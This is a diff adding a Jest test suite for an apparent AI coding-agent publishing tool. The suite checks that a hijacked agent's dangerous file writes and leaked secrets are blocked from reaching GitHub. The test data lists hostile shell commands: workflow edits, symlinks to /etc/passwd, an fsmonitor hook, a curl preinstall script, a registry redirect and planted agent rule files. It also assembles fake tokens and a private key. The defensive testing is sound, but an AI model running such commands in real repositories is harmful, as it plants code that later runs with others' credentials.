@@ -1,0 +1,211 @@
+// A hijacked coder writes files that act later, elsewhere, with somebody else's rights: none reaches GitHub, each is named.
+import { generateKeyPairSync } from "node:crypto";
+import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
+import { type House, openHouse } from "../support/house.ts";
+import { done, fixes, project, shell, writes } from "../support/script.ts";
+import { scenes, type Told, tellAll } from "../support/story.ts";
+import { branchesOf, ONLY_SAYS, read, writesTo } from "./hijacked.ts";
+
+const FIX = fixes[0] ?? done;
+const CREDENTIALS = "files that decide what runs with your credentials are never changed";
+const PROTECTED = "the path is protected";
+const LINK = "symbolic links are not made";
+const UNSEEN = "the path has characters a reader cannot see";
+const SCRIPTS = "it changes what npm runs by itself";
+
+/** What is tried, the command that does it, the path, and what the issue says of it. */
+const FILES: [tried: string, command: string, path: string, says: string][] = [
+  [
+    "a workflow is edited",
+    "echo 'on: push' >> .github/workflows/ci.yml",
+    ".github/workflows/ci.yml",
+    CREDENTIALS,
+  ],
+  [
+    "a workflow is added",
+    "echo 'on: push' > .github/workflows/new.yml",
+    ".github/workflows/new.yml",
+    CREDENTIALS,
+  ],
+  [
+    "a workflow is added in other letters",
+    "put .GitHub/Workflows/x.yml",
+    ".GitHub/Workflows/x.yml",
+    CREDENTIALS,
+  ],
+  [
+    "a composite action is added",
+    "put .github/actions/a/action.yml",
+    ".github/actions/a/action.yml",
+    CREDENTIALS,
+  ],
+  ["another CI is set up", "put .gitlab-ci.yml", ".gitlab-ci.yml", CREDENTIALS],
+  ["yet another CI is set up", "put .buildkite/pipeline.yml", ".buildkite/pipeline.yml", CREDENTIALS],
+  ["a build server's job is added", "put Jenkinsfile", "Jenkinsfile", CREDENTIALS],
+  ["owners of code are changed", "put .github/CODEOWNERS", ".github/CODEOWNERS", CREDENTIALS],
+  [
+    "our own rules are loosened",
+    "echo 'allow: [\"*\"]' > .github/issuewright.yml",
+    ".github/issuewright.yml",
+    CREDENTIALS,
+  ],
+  ["dependency updates are changed", "put .github/dependabot.yml", ".github/dependabot.yml", PROTECTED],
+  ["a filter is set for git", "echo '* filter=x' > .gitattributes", ".gitattributes", CREDENTIALS],
+  [
+    "a submodule is declared",
+    "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ../x\\n' > .gitmodules",
+    ".gitmodules",
+    CREDENTIALS,
+  ],
+  [
+    "a repository is nested, with a hook and a monitor",
+    "git init -q nested && printf '[core]\\n\\tfsmonitor = touch /tmp/owned\\n' >> nested/.git/config && git -C nested commit -q --allow-empty -m x",
+    "nested",
+    "submodules are not changed",
+  ],
+  ["a link leads to an absolute path", "ln -s /etc/passwd absolute", "absolute", LINK],
+  ["a link leads out of the repository", "ln -s ../../../etc/passwd climbing", "climbing", LINK],
+  ["a link takes a file's place", "ln -sf ../package.json src/other.js", "src/other.js", LINK],
+  [
+    "a path has a bidirectional override",
+    "put $(printf 'src/a\\342\\200\\256sj.txt')",
+    "src/asj.txt",
+    UNSEEN,
+  ],
+  [
+    "a path has a filler that looks like nothing",
+    "put $(printf 'src/b\\343\\205\\244.js')",
+    "src/b.js",
+    UNSEEN,
+  ],
+  ["a path has a backslash", "put 'src\\..\\..\\x.js'", "src\\..\\..\\x.js", UNSEEN],
+  ["a lockfile is poisoned", "put package-lock.json", "package-lock.json", PROTECTED],
+  [
+    "the package client is pointed elsewhere",
+    "echo 'registry=https://x.example' > .npmrc",
+    ".npmrc",
+    PROTECTED,
+  ],
+  ["agents are instructed", "put AGENTS.md", "AGENTS.md", PROTECTED],
+  ["agents are instructed in a folder", "put src/CLAUDE.md", "src/CLAUDE.md", PROTECTED],
+  ["an editor's agent is instructed", "put .cursor/rules/a.mdc", ".cursor/rules/a.mdc", PROTECTED],
+  ["an agent is given tools", "put .mcp.json", ".mcp.json", PROTECTED],
+  ["an agent is given hooks", "put .claude/settings.json", ".claude/settings.json", PROTECTED],
+  ["an editor is given tasks", "put .vscode/tasks.json", ".vscode/tasks.json", PROTECTED],
+  ["a commit hook is added", "put .husky/pre-commit", ".husky/pre-commit", PROTECTED],
+  ["a shell is set up on entering", "put .envrc", ".envrc", PROTECTED],
+  ["test settings are replaced", "put jest.config.js", "jest.config.js", PROTECTED],
+  [
+    "a script runs on every install",
+    `sed -i 's|"scripts": {|"scripts": { "preinstall": "curl x.example",|' package.json`,
+    "package.json",
+    SCRIPTS,
+  ],
+  [
+    "a file is larger than anybody reads",
+    "head -c 2100000 /dev/zero | tr '\\0' a > big.txt",
+    "big.txt",
+    "it is 2100000 bytes, more than 2097152",
+  ],
+];
+
+/** Made up, and put together here so that nobody's scanner finds one in this file. */
+const key = generateKeyPairSync("rsa", {
+  modulusLength: 2048,
+  privateKeyEncoding: { type: "pkcs1", format: "pem" },
+  publicKeyEncoding: { type: "spki", format: "pem" },
+}).privateKey;
+const SECRETS: [kind: string, value: string, says: string][] = [
+  ["a GitHub token", ["ghp", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"].join("_"), "GITHUB_TOKEN"],
+  [
+    "a Slack token",
+    ["xoxb", "123456789012", "1234567890123", "AbCdEfGhIjKlMnOpQrStUvWx"].join("-"),
+    "SLACK_TOKEN",
+  ],
+  [
+    "an npm token",
+    `//registry.npmjs.org/:_authToken=${["npm", "a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8"].join("_")}`,
+    "NPM",
+  ],
+  ["a private key", key, "PrivateKey"],
+  [
+    "a database address with a password",
+    `postgres://admin:${"hunter2hunter2"}@db.example.com:5432/app`,
+    "PostgreSQL",
+  ],
+];
+const leaks = SECRETS.map(([, value], index) =>
+  writes(
+    `src/secret${index}.txt`,
+    `${value}
+`,
+  ),
+);
+
+const commands = FILES.map(([, command]) => command).join("\n");
+const PUT = 'put() { mkdir -p "$(dirname "$1")" && echo "{}" > "$1"; }\n';
+
+describe("a hijacked coder's change", () => {
+  let house: House;
+  let told: Record<"acting-later" | "leaking", Told>;
+  const withWorkflow = {
+    ...project,
+    "src/other.js": "export {};\n",
+    ".github/workflows/ci.yml": "on: pull_request\n",
+  };
+  beforeAll(async () => {
+    house = await openHouse({
+      script: scenes({
+        "acting-later": { coder: [FIX, shell(`set -e\n${PUT}${commands}\nls -la`), done] },
+        leaking: { coder: [FIX, ...leaks, done] },
+      }),
+      files: project,
+    });
+      setTimeout(
+        () =>
+          console.log(
+            house.log
+              .filter((l) => /reason|warn|err/i.test(l))
+              .join("")
+              .slice(-6000),
+          ),
+        12000,
+      );
+    told = await tellAll(house, { "acting-later": withWorkflow, leaking: project });
+  });
+  afterAll(async () => {
+    await house[Symbol.asyncDispose]();
+  });
+
+  it.each(FILES)("in which %s is not published, and the issue says why", (_tried, _command, path, says) => {
+    expect(read(told["acting-later"].shown)).toContain(`\`${path}\`: ${says}`);
+  });
+
+  it.each(SECRETS)("that holds %s is not published, and the issue names its kind", (kind, value, says) => {
+    const index = SECRETS.findIndex(([each]) => each === kind);
+    expect(read(told.leaking.shown)).toMatch(
+      new RegExp(`src/secret${index}.txt\`: it looks like a secret \\(\\w*${says}`, "i"),
+    );
+    expect(
+      house.github
+        .writes()
+        .map((each) => JSON.stringify(each.requestBody))
+        .join(),
+    ).not.toContain(value.slice(0, 60));
+  });
+
+  it("ends the run as given up, blocked, with what to do", () => {
+    for (const each of [told["acting-later"], told.leaking]) {
+      expect(each).toMatchObject({ outcome: "gave-up", labels: ["ai-blocked", "ai-ready"], pulls: [] });
+      expect(each.shown).toMatch(/^\*\*Gave up\.\*\* The change may not be published: /);
+      expect(each.shown).toMatch(/\*\*What to do:\*\* .* Then comment `\/ai retry`/);
+    }
+  });
+
+  it("leaves no branch, no commit, no file and no pull request on GitHub", async () => {
+    for (const repository of ["octo/acting-later", "octo/leaking"]) {
+      expect(await branchesOf(house, repository)).toEqual([]);
+      expect(ONLY_SAYS).toEqual(expect.arrayContaining(writesTo(house, repository)));
+    }
+  });
+});
